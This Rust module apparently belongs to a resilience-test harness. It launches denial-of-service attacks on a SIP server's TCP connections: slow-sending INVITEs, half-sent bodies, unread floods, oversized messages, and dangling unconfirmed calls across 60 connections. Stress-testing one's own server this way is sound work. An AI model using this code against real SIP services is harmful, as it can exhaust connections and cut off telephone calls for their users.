//! Attacks on connections of calls over SIP, by a telephone that may call: messages that come slowly or never end, floods
//! that nobody reads the answers of, and more connections than one address may have.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};

use super::victim::Victim;

/// Timeout of connecting, and of each read and write.
const PATIENCE: Duration = Duration::from_secs(10);
/// Attackers at once: more than one address may have connections.
const ATTACKERS: usize = 60;
/// Probe of a connection, which one line end answers.
const PROBE: &[u8] = b"\r\n\r\n";
/// Time between two bytes of a slow sender.
const SLOW: Duration = Duration::from_millis(200);
/// Bytes of a large message, within the server's bound.
const LARGE: usize = 60_000;

fn connect(server: SocketAddr) -> Result<TcpStream> {
    let socket = TcpStream::connect_timeout(&server, PATIENCE)?;
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.set_write_timeout(Some(PATIENCE))?;
    Ok(socket)
}

/// Writes a request; `more` are further header lines.
fn request(method: &str, id: usize, more: &str, body: &str) -> String {
    format!(
        "{method} sip:voice@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/TCP 127.0.0.1:9;branch=z9hG4bK{method}{id}\r\nMax-Forwards: 70\r\n\
         From: <sip:stream@127.0.0.1>;tag=a7\r\nTo: <sip:voice@127.0.0.1>\r\nCall-ID: stream{id}\r\nCSeq: 1 {method}\r\n\
         Contact: <sip:stream@127.0.0.1:9;transport=tcp>\r\n{more}Content-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// All of it at once, from this machine, which may call.
pub fn sip_streams(victim: &Victim) -> Result<()> {
    let server = victim.sip.context("the server takes no calls over SIP")?;
    // An attack that nobody hears would hold for nothing.
    let mut first = connect(server)?;
    first.write_all(PROBE)?;
    let mut answer = [0; 2];
    first.read_exact(&mut answer).context("no response to a probe")?;
    ensure!(answer == *b"\r\n", "another response to a probe: {answer:?}");
    drop(first);
    let large = request("OPTIONS", 0, &format!("X: {}\r\n", "\u{fc}".repeat(LARGE / 2)), "").into_bytes();
    let many = request("OPTIONS", 1, &"X: y\r\n".repeat(200), "").into_bytes();
    victim.repeat(ATTACKERS, |victim, number| {
        let mut socket = connect(server)?;
        match number % 6 {
            0 => slowly(victim, &mut socket, number),
            1 => half(victim, &mut socket, number),
            2 => unread(victim, &mut socket, &PROBE.repeat(10_000)),
            3 => unread(victim, &mut socket, &large),
            4 => unread(victim, &mut socket, &many),
            _ => calls(victim, &mut socket, number),
        }
    });
    Ok(())
}

/// One byte after another, until the server ends the connection.
fn slowly(victim: &Victim, socket: &mut TcpStream, id: usize) -> Result<()> {
    for byte in request("INVITE", id, "", "").bytes().cycle() {
        socket.write_all(&[byte])?;
        if victim.is_over() {
            break;
        }
        thread::park_timeout(SLOW);
    }
    Ok(())
}

/// A message that has half of its body, and the end of the connection, which the server has to find.
fn half(victim: &Victim, socket: &mut TcpStream, id: usize) -> Result<()> {
    let whole = request("INVITE", id, "Content-Type: application/sdp\r\n", &"a=b\r\n".repeat(LARGE / 5));
    socket.write_all(&whole.as_bytes()[..whole.len() / 2])?;
    let mut buffer = [0; 1_024];
    while !victim.is_over() {
        match socket.read(&mut buffer) {
            Ok(0) => break,
            Err(error) if !matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => break,
            _ => {}
        }
    }
    Ok(())
}

/// The same bytes without a pause, whose answers nobody reads.
fn unread(victim: &Victim, socket: &mut TcpStream, bytes: &[u8]) -> Result<()> {
    while !victim.is_over() {
        socket.write_all(bytes)?;
    }
    Ok(())
}

/// Calls that are neither confirmed nor ended, and whose connection breaks in the middle of the last one.
fn calls(victim: &Victim, socket: &mut TcpStream, id: usize) -> Result<()> {
    let offer = "v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=audio 9 RTP/AVP 0\r\n";
    for number in 0..50 {
        let call = request("INVITE", 1_000 * id + number, "Content-Type: application/sdp\r\n", offer);
        let torn = if number == 49 { call.len() / 2 } else { call.len() };
        socket.write_all(&call.as_bytes()[..torn])?;
        if victim.is_over() {
            break;
        }
        thread::park_timeout(SLOW);
    }
    Ok(())
}
